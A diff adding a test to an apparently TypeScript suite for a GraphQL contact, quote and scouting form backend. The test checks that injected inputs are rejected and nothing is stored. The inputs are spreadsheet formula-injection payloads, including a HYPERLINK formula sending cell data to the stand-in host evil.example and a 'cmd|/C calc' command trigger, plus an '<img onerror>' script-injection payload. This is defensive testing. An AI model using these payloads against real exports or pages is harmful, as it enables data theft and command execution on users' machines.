@@ -506,6 +506,51 @@ describe('requestQuote and sendContactMessage', () => {
     expect(twoLines.sendContactMessage).toMatchObject({ __typename: 'SubmissionAccepted' });
   });
 
+  it('refuses formulas a spreadsheet would run and markup in names, in every form, storing nothing', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Ana")';
+    const contact = await storesNothing('contact', () =>
+      gql<{ sendContactMessage: Result }>(CONTACT, {
+        brand: 'DIGITAL',
+        input: { ...person(), name: formula, message: '@SUM(1+1)*cmd|" /C calc"!A0' },
+      }),
+    );
+    expect(contact.sendContactMessage).toEqual({
+      __typename: 'InvalidInput',
+      fields: [
+        { path: 'name', message: VALIDATION.formulaStart },
+        { path: 'message', message: VALIDATION.formulaStart },
+      ],
+    });
+    const quote = await storesNothing('favorites', () =>
+      gql<{ requestQuote: Result }>(QUOTE, {
+        brand: 'JABUTICABA',
+        input: {
+          ...person(),
+          name: '<img src=x onerror=alert(1)>',
+          message: 'Olá',
+          talents: [{ id: '999999', name: '+1+1' }],
+        },
+      }),
+    );
+    expect(quote.requestQuote).toEqual({
+      __typename: 'InvalidInput',
+      fields: [
+        { path: 'name', message: VALIDATION.markup },
+        { path: 'talents', message: VALIDATION.invalid },
+      ],
+    });
+    const scouting = await storesNothing('scouting', async () =>
+      scoutingResult(application({ name: '-1+1', instagram: '@HYPERLINK("x")' }), await photos()),
+    );
+    expect(scouting).toEqual({
+      __typename: 'InvalidInput',
+      fields: [
+        { path: 'name', message: VALIDATION.formulaStart },
+        { path: 'instagram', message: VALIDATION.instagram },
+      ],
+    });
+  });
+
   it('sends contact messages to the main panel and rate-limits one e-mail', async () => {
     const input = { ...person(), message: 'Olá!' };
     for (let i = 0; i < EMAIL_LIMIT; i += 1) {
